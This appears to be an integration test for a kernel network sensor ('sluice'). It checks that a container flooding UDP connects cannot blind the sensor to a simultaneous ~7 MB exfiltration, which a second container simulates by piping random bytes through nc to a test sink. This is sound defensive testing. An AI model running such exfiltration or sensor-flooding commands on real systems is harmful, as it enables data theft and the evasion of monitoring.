"""Fair share in the kernel (issue 10): a container that connect()s UDP
sockets to ever new destinations (hundreds of thousands a second) next to
a container sending ~7 MB of encrypted data to the sink. The flooder gets
its quota of the flow table and of the event buffer and no more; the
exfiltration is still counted and detected, the flooder is named by
SL-EVA-001 with its counts, windows keep closing on time and `sluice
status` answers fresh."""

from __future__ import annotations

import json
import subprocess
import time
from pathlib import Path
from typing import Any

from ..privileged.harness import SINK_IP, Docker, SensorProc, SinkNet, cid_of, run_container

HERE = Path(__file__).parent
EXFIL_BYTES = 7_000_000
# The harness closes a window every second; the default quotas are per
# window and sized for the default 10-s window: the same rate here is a
# tenth of them.
QUOTAS = "[kernel]\nflow_quota_per_cgroup = 205\nevent_quota_per_cgroup = 820\n"


def _status(s: SensorProc) -> tuple[dict[str, Any], float]:
    t = time.monotonic()
    st = json.loads(s.status("--json").stdout)
    return st, time.monotonic() - t


def _alert(d: dict[str, Any], rule: str, cid: str) -> bool:
    return d["event"]["kind"] == "alert" and d.get("rule", {}).get("id") == rule and cid_of(d) == cid


def test_flooder_cannot_blind_the_sensor_to_an_exfiltration(base: Path, docker: Docker, net: SinkNet) -> None:
    flood = base / "flood"
    subprocess.run(["gcc", "-O2", "-static", "-o", str(flood), str(HERE / "flood.c")], check=True)
    s = SensorProc(base, docker.sock, name="fairshare", extra_config=QUOTAS)
    s.start()
    flooder = run_container(docker, net, "/flood 90 > /tmp/count", wait=False, volumes=(f"{flood}:/flood:ro",))
    exfil = ""
    try:
        time.sleep(4)  # the flood is on: several windows of it
        st0, _ = _status(s)
        w0, t0 = st0["counters"]["windows"], time.monotonic()

        t_exfil = time.monotonic()
        exfil = run_container(docker, net, f"openssl rand {EXFIL_BYTES} | nc -w 5 {SINK_IP} 9002", wait=True)
        t_exfil = time.monotonic() - t_exfil
        got = s.wait_for(lambda d: _alert(d, "SL-EXF-002", exfil), what="the exfiltration alert", timeout=20)
        assert got["sluice"]["evidence"]["bytes"] >= 1_000_000
        assert st0["counters"]["flow_quota_refused"] > 0, st0["counters"]
        named = s.wait_for(lambda d: _alert(d, "SL-EVA-001", flooder), what="the flood alert", timeout=10)
        ev = named["sluice"]["evidence"]
        assert ev["flows_refused"] > 0 and ev["over_quota_connects"] > 0, ev
        assert ev["flow_quota"] == 205
        assert "flooded the sensor" in named["message"]

        # windows keep closing on time; status answers, fresh, while the flood goes on
        time.sleep(3)
        st1, took = _status(s)
        w1, t1 = st1["counters"]["windows"], time.monotonic()
        assert w1 - w0 >= (t1 - t0) / 1.0 - 2, f"{w1 - w0} windows closed in {t1 - t0:.1f} s"
        # liveness, not speed (bench/ measures speed): `took` includes the
        # `sluice status` process's own start on two flooded cores and, when
        # the loop missed status's 1 s, the harness asking again; a loop the
        # flood holds would run into the harness's 15 s patience
        assert took < 5.0, f"status took {took:.2f} s"
        assert st1["uptime_seconds"] > st0["uptime_seconds"] + (t1 - t0) - 2, "status answered a stale snapshot"
        assert docker.docker("inspect", "-f", "{{.State.Running}}", flooder) == "true", "the flood ended too early"

        # the exfiltration's bytes were counted in full
        sent = sum(
            d["source"]["bytes"]
            for d in s.docs()
            if d["event"]["action"] == "flow_summary" and cid_of(d) == exfil and d["destination"]["port"] == 9002
        )
        assert sent >= EXFIL_BYTES, sent
        print(
            f"flood: {st1['counters']['flow_quota_refused']} flow entries and "
            f"{st1['counters']['event_quota_refused']} events refused; {w1 - w0} windows in {t1 - t0:.1f} s; "
            f"status {took * 1000:.0f} ms; exfil {sent} bytes counted in a {t_exfil:.1f} s container run; "
            f"flow_map_full {st1['drops'].get('flow_map_full')}"
        )
    finally:
        docker.docker("rm", "-f", flooder, *([exfil] if exfil else []), check=False)
        assert s.stop() == 0
